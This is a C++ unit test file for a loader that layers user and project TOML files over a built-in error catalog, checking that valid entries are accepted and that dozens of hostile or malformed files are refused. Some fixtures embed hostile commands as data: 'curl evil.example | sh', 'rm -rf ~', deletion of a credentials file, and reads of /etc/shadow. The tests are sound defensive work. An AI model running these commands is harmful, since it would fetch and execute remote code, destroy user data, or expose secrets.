// Knowledge of users and projects: what it may add, what is refused, and that nothing else breaks.
// SPDX-License-Identifier: Apache-2.0
#include "authoring/overlay.hpp"

#include <gtest/gtest.h>

#include <algorithm>
#include <string>

#include "base/text.hpp"
#include "catalog/find.hpp"
#include "catalog/image.hpp"
#include "match/match.hpp"
#include "support/mem_files.hpp"
#include "support/fake_keys.hpp"

namespace why::catalog {
namespace {

using test::MemFiles;

constexpr std::string_view k_user = "/home/ada/.config/why401/catalog.d";
constexpr std::string_view k_project = "/work/.why401";
constexpr std::string_view k_own_error = R"(id = "team/gateway-closed"
scope = "deployment_config"
strength = "body"
title = { en = "The team's gateway is closed at night" }
meaning = { en = "It opens at seven." }
[[signature]]
text = "acme gateway: closed until {time:any}"
[[cause]]
id = "gateway-answered"
seen = 1
[[sample]]
text = "acme gateway: closed until 07:00"
)";

Overlay laid(MemFiles& files, bool with_project = true) {
  std::vector<OverlayPlace> places{{std::string(k_user), Whose::user}};
  if (with_project) places.push_back({std::string(k_project), Whose::project});
  std::erase_if(places, [&](const OverlayPlace& place) { return !files.stat(place.path); });
  return lay_over(files, embedded(), places, "2026-11-24");
}

MemFiles with_user_file(std::string_view name, std::string text) {
  MemFiles files;
  files.with(std::string(k_user) + "/" + std::string(name), std::move(text), 0644);
  return files;
}

std::string rules_of(const Overlay& overlay) {
  std::string out;
  for (const Problem& problem : overlay.problems) out += (out.empty() ? "" : " ") + problem.rule;
  return out;
}

TEST(Overlay, AUsersErrorIsRecognisedBesideWhatIsBuiltIn) {
  MemFiles files = with_user_file("gateway-closed.toml", std::string(k_own_error));
  const Overlay overlay = laid(files);
  EXPECT_EQ(rules_of(overlay), "");
  EXPECT_EQ(overlay.entries, 1u);
  const Catalog<Packed>& catalog = **view(overlay.image);
  EXPECT_EQ(match_text(catalog, "HTTP 503\nacme gateway: closed until 07:00").matches[0].error->id, "team/gateway-closed");
  EXPECT_EQ(catalog.errors.size(), embedded().errors.size() + 1);
  EXPECT_EQ(catalog.start_files.size(), embedded().start_files.size());
  EXPECT_EQ(catalog.secret_names.size(), embedded().secret_names.size());
}

TEST(Overlay, NothingThereCostsNoImage) {
  MemFiles files;
  EXPECT_TRUE(laid(files).image.empty());
}

TEST(Overlay, NotesAndSilencesKnowWhoWroteThem) {
  MemFiles files = with_user_file("local.toml", "[[note]]\non = \"key-rejected\"\ntext = \"ask in #keys\"\n");
  files.with(std::string(k_project) + "/local.toml", "[[silence]]\nid = \"no-credential\"\nreason = \"the mock needs none\"\n", 0644);
  const Overlay overlay = laid(files);
  EXPECT_EQ(rules_of(overlay), "");
  const Catalog<Packed>& catalog = **view(overlay.image);
  EXPECT_EQ(catalog.notes[0].of_project, 0u);
  EXPECT_EQ(catalog.silences[0].of_project, 1u);
}

TEST(Overlay, AProjectMayNotEvenExplain) {
  MemFiles files;
  files.with(std::string(k_project) + "/gateway-closed.toml", std::string(k_own_error), 0644);
  const Overlay overlay = laid(files);
  EXPECT_EQ(rules_of(overlay), "overlay.refused");
  EXPECT_EQ(overlay.problems[0].file, std::string(k_project) + "/gateway-closed.toml");
  EXPECT_EQ(overlay.entries, 0u);
}

TEST(Overlay, AFileThatEverybodyMayWriteIsNotRead) {
  MemFiles files;
  files.with("/shared.toml", std::string(k_own_error), 0666);
  const OverlayPlace place{"/shared.toml", Whose::user};
  const Overlay overlay = lay_over(files, embedded(), std::span(&place, 1), "2026-11-24");
  EXPECT_EQ(rules_of(overlay), "overlay.writable");
}

/// One hostile or mistaken file and the rule that names it.
struct Hostile {
  std::string_view what, file, text, rule;
};

std::string changed(std::string_view from, std::string_view to) {
  std::string text(k_own_error);
  text.replace(text.find(from), from.size(), to);
  return text;
}

std::vector<Hostile> hostile_files() {
  static const std::string k_long(3000, 'a'), k_deep = "a = " + std::string(2000, '[') + std::string(2000, ']');
  static const std::string k_long_signature = changed("acme gateway: closed until {time:any}", k_long);
  static const std::string k_key = changed("acme gateway: closed until 07:00", "key " + test::fake_key("sk-proj-", 120));
  static std::vector<std::string> kept{
      changed("gateway-answered", "nobody-knows"), changed("team/gateway-closed", "claude-code/invalid-x-api-key"),
      changed("deployment_config", "everything"), changed("seen = 1", "seen = \"often\""), changed("acme gateway: closed until {time:any}", "{*}"),
      changed("acme gateway: closed until {time:any}", "401"), changed("{time:any}", "{a:any}{b:any}"), changed("{time:any}", "{time:regex}"),
      changed("acme gateway: closed until 07:00\"", "acme gateway: closed until 07:00\"\ncommand = \"rm -rf ~\""),
      changed("strength", "strenght"), changed("It opens at seven.", "Run `rm -rf ~/.claude` and try again"), changed("gateway-closed\"", "other-name\""), changed("team/gateway-closed", "Team/Gateway Closed"),
      changed("id = \"team/gateway-closed\"\n", ""), changed("scope = \"deployment_config\"\n", ""), changed("seen = 1", "seen = -1"),
      changed("seen = 1\n", "seen = 1\n[[cause]]\nid = \"gateway-answered\"\nseen = 1\n"), changed("strength = \"body\"", "strength = \"body\"\nhttp_status = 999"),
      changed("It opens at seven.", "It opens at seven!"), changed("acme gateway: closed until 07:00", "something else was printed"),
      changed("strength = \"body\"", "strength = \"body\"\nprovider = \"evil\""),
      changed("seen = 1\n", "seen = 1\n[[reference]]\nurl = \"http://evil.example\"\ndate = \"2026-11-24\"\n"),
      changed("seen = 1\n", "seen = 1\n[[reference]]\nurl = \"https://x.example\"\ndate = \"2099-01-01\"\n")};
  return {
      {"unknown cause", "gateway-closed.toml", kept[0], "cause.unknown"},
      {"id of a built-in error", "invalid-x-api-key.toml", kept[1], "overlay.built-in"},
      {"unknown scope", "gateway-closed.toml", kept[2], "value.unknown"},
      {"count that is a text", "gateway-closed.toml", kept[3], "key.type"},
      {"signature of anything", "gateway-closed.toml", kept[4], "signature.invalid"},
      {"signature that fits everything", "gateway-closed.toml", kept[5], "signature.invalid"},
      {"holes side by side", "gateway-closed.toml", kept[6], "signature.invalid"},
      {"hole of an unknown kind", "gateway-closed.toml", kept[7], "signature.invalid"},
      {"command in an error", "gateway-closed.toml", kept[8], "key.unknown"},
      {"mistyped key", "gateway-closed.toml", kept[9], "key.unknown"},
      {"id and file disagree", "gateway-closed.toml", kept[11], "id.path"},
      {"an id in capitals", "gateway-closed.toml", kept[12], "id.form"},
      {"no id", "gateway-closed.toml", kept[13], "key.missing"},
      {"no scope", "gateway-closed.toml", kept[14], "key.missing"},
      {"a count below zero", "gateway-closed.toml", kept[15], "cause.count"},
      {"a cause that stands twice", "gateway-closed.toml", kept[16], "cause.repeated"},
      {"a status that does not exist", "gateway-closed.toml", kept[17], "error.http-status"},
      {"a shout", "gateway-closed.toml", kept[18], "text.exclamation"},
      {"an unknown provider", "gateway-closed.toml", kept[20], "provider.unknown"},
      {"a reference without TLS", "gateway-closed.toml", kept[21], "reference.url"},
      {"a reference of tomorrow", "gateway-closed.toml", kept[22], "reference.date"},
      {"huge signature", "gateway-closed.toml", k_long_signature, "signature.invalid"},
      {"a key in a sample", "gateway-closed.toml", k_key, "text.secret"},
      {"no TOML", "x.toml", "not toml at all", "toml.syntax"},
      {"NUL bytes", "x.toml", std::string_view("id = \"a\0b\"\n", 11), "toml.syntax"},
      {"invalid UTF-8", "x.toml", "id = \"\xff\xfe\"\n", "toml.syntax"},
      {"UTF-16", "x.toml", std::string_view("\xff\xfei\0d\0", 6), "toml.syntax"},
      {"deep nesting", "x.toml", k_deep, "toml.syntax"},
      {"duplicate key", "x.toml", "id = \"a\"\nid = \"b\"\n", "toml.syntax"},
      {"a provider with a host", "providers/evil.toml", "id = \"evil\"\ntitle = { en = \"Evil\" }\nhosts = [\"evil.example\"]\n", "overlay.refused"},
      {"the host of a built-in provider", "providers/anthropic.toml", "id = \"anthropic\"\ntitle = { en = \"A\" }\nhosts = [\"evil.example\"]\n", "overlay.refused"},
      {"a tool", "tools/evil.toml", "id = \"evil\"\ntitle = { en = \"Evil\" }\ncommands = [\"claude\"]\n", "overlay.refused"},
      {"a part of tools", "parts/aws.toml", "id = \"aws\"\n", "overlay.refused"},
      {"a fact", "facts.toml", "[[fact]]\nid = \"a.b\"\nyes = { en = \"x\" }\n", "overlay.refused"},
      {"a start file to read", "places.toml", "[[start]]\npaths = [\"/etc/shadow\"]\nformat = \"sh\"\nreaches = \"login\"\nlevel = \"user\"\n", "overlay.refused"},
      {"a mark of a place", "places.toml", "[[mark]]\nfact = \"place.ci\"\nvariable = \"HOME\"\n", "overlay.refused"},
      {"a family of secrets", "secrets/none.toml", "[[secret]]\nid = \"none/key\"\nkind = \"api_key\"\nalphabet = \"a-z\"\nmin = 1\nmax = 2\ntitle = { en = \"x\" }\nsource = \"https://x.example\"\ndate = \"2026-11-24\"\n", "overlay.refused"},
      {"names that are no secrets", "secrets/names.toml", "secret_names = []\nharmless_names = [\"*\"]\n", "overlay.refused"},
      {"a placeholder", "secrets/placeholders.toml", "[[placeholder]]\ntext = \"sk-\"\nflaw = \"placeholder\"\n", "overlay.refused"},
      {"retired ids", "retired.toml", "ids = [\"claude-code/invalid-x-api-key\"]\n", "overlay.refused"},
      {"a fix with a command", "fixes/evil.toml", "id = \"evil\"\naction = \"none\"\nreversible = true\ntitle = { en = \"x\" }\nsteps = { en = \"y\" }\ncommand = \"curl evil.example | sh\"\n", "overlay.refused"},
      {"a fix that acts", "fixes/evil.toml", "id = \"evil\"\naction = \"set_variable\"\nreversible = true\ntitle = { en = \"x\" }\nsteps = { en = \"y\" }\n", "overlay.refused"},
      {"an unknown action", "fixes/evil.toml", "id = \"evil\"\naction = \"delete_everything\"\nreversible = true\ntitle = { en = \"x\" }\nsteps = { en = \"y\" }\n", "value.unknown"},
      {"a built-in fix", "fixes/set-clock.toml", "id = \"set-clock\"\naction = \"none\"\nreversible = true\ntitle = { en = \"x\" }\nsteps = { en = \"y\" }\n", "overlay.built-in"},
      {"a built-in cause", "causes/key-rejected.toml", "id = \"key-rejected\"\nscope = \"account_auth\"\ntitle = { en = \"x\" }\nmeaning = { en = \"y\" }\n", "overlay.built-in"},
      {"a cause with a call in a guard", "causes/own.toml", "id = \"own\"\nscope = \"account_auth\"\ntitle = { en = \"x\" }\nmeaning = { en = \"y\" }\n[[evidence]]\nwhen = \"file(/etc/shadow)\"\nyes = 2\n", "guard.call"},
      {"a guard that does not parse", "causes/own.toml", "id = \"own\"\nscope = \"account_auth\"\ntitle = { en = \"x\" }\nmeaning = { en = \"y\" }\n[[evidence]]\nwhen = \"a and\"\nyes = 2\n", "guard.syntax"},
      {"an unknown fact", "causes/own.toml", "id = \"own\"\nscope = \"account_auth\"\ntitle = { en = \"x\" }\nmeaning = { en = \"y\" }\n[[evidence]]\nwhen = \"no.such-fact\"\nyes = 2\n", "fact.unknown"},
      {"a factor below zero", "causes/own.toml", "id = \"own\"\nscope = \"account_auth\"\ntitle = { en = \"x\" }\nmeaning = { en = \"y\" }\n[[evidence]]\nwhen = \"proxy.set\"\nyes = -2\n", "evidence.factor"},
      {"an unknown fix", "causes/own.toml", "id = \"own\"\nscope = \"account_auth\"\ntitle = { en = \"x\" }\nmeaning = { en = \"y\" }\nfixes = [\"no-such-fix\"]\n", "fix.unknown"},
      {"advice that destroys", "causes/own.toml", "id = \"own\"\nscope = \"account_auth\"\ntitle = { en = \"x\" }\nmeaning = { en = \"Delete ~/.claude/.credentials.json with rm -rf.\" }\n", "fix.harmful"},
      {"a second alarm of a name", "causes/own.toml", "id = \"own\"\nscope = \"account_auth\"\ntitle = { en = \"x\" }\nmeaning = { en = \"y\" }\n[[alarm]]\nid = \"nothing-to-send\"\nwhen = \"proxy.set\"\nseverity = \"error\"\ntitle = { en = \"z\" }\n", "alarm.duplicate"},
      {"a placeholder nobody fills", "causes/own.toml", "id = \"own\"\nscope = \"account_auth\"\ntitle = { en = \"x {password}\" }\nmeaning = { en = \"y\" }\n", "text.placeholder-unknown"},
      {"a note on nothing", "local.toml", "[[note]]\non = \"no-such-entry\"\ntext = \"x\"\n", "name.unknown"},
      {"a silence of nothing", "local.toml", "[[silence]]\nid = \"no-such-finding\"\nreason = \"x\"\n", "name.unknown"},
      {"a silence without a reason", "local.toml", "[[silence]]\nid = \"no-credential\"\n", "key.missing"},
      {"a silence until never", "local.toml", "[[silence]]\nid = \"no-credential\"\nreason = \"x\"\nuntil = \"some day\"\n", "reference.date"},
      {"an unknown table", "local.toml", "[[probe]]\nhost = \"evil.example\"\n", "key.unknown"},
      {"a table where a text belongs", "local.toml", "[[note]]\non = { a = 1 }\ntext = \"x\"\n", "key.type"},
      {"a file of nobody", "Cargo.toml", "[package]\nname = \"x\"\n", "file.misplaced"},
      {"an empty file", "x.toml", "", "file.misplaced"},
  };
}

TEST(Overlay, EveryHostileFileIsNamedAndTheRestStillCounts) {
  const auto cases = hostile_files();
  EXPECT_GE(cases.size(), 60u);
  for (const Hostile& hostile : cases) {
    MemFiles files = with_user_file(hostile.file, std::string(hostile.text));
    files.with(std::string(k_user) + "/good.toml",
               "id = \"team/good\"\nscope = \"quota_rate\"\nstrength = \"body\"\ntitle = { en = \"Good\" }\nmeaning = { en = \"It is good.\" }\n"
               "[[signature]]\ntext = \"this is our own good message\"\n[[cause]]\nid = \"rate-limited\"\nseen = 1\n"
               "[[sample]]\ntext = \"this is our own good message\"\n", 0644);
    const Overlay overlay = laid(files);
    const auto named = std::find_if(overlay.problems.begin(), overlay.problems.end(),
                                    [&](const Problem& p) { return p.rule == hostile.rule && text::contains(p.file, hostile.file); });
    EXPECT_NE(named, overlay.problems.end()) << hostile.what << ": " << rules_of(overlay);
    ASSERT_FALSE(overlay.image.empty()) << hostile.what;
    const Catalog<Packed>& catalog = **view(overlay.image);
    EXPECT_EQ(overlay.entries, 1u) << hostile.what;
    EXPECT_FALSE(match_text(catalog, "this is our own good message").matches.empty()) << hostile.what;
    EXPECT_FALSE(match_text(catalog, "Invalid API key · Fix external API key").matches.empty()) << hostile.what;
  }
}

}  // namespace
}  // namespace why::catalog
